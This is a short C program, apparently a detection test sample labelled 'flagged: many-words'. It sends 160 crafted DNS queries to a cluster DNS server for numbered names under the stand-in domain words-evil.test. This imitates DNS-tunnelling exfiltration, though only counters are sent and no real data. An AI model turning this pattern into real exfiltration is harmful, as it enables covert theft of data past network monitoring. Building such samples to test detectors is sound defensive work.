// flagged: many-words
#include <arpa/inet.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

/* One letter of the data in each name. */
int main(void)
{
	struct sockaddr_in there = { .sin_family = AF_INET, .sin_port = htons(53) };
	int one = socket(AF_INET, SOCK_DGRAM, 0);

	inet_pton(AF_INET, "10.96.0.10", &there.sin_addr);
	setsockopt(one, SOL_SOCKET, SO_RCVTIMEO, &(struct timeval){ .tv_sec = 1 }, sizeof(struct timeval));
	connect(one, (struct sockaddr *)&there, sizeof(there));
	for (int number = 0; number < 160; number++) {
		char question[64] = "\0\0\1\0\0\1\0\0\0\0\0\0", answer[512];
		int length = 12;

		question[0] = number;
		question[length] = sprintf(question + length + 1, "w%d", number);
		length += 1 + question[length];
		memcpy(question + length, "\nwords-evil\4test\0\0\1\0\1", 21);
		send(one, question, length + 21, 0);
		recv(one, answer, sizeof(answer), 0);
	}
	close(one);
	return 0;
}
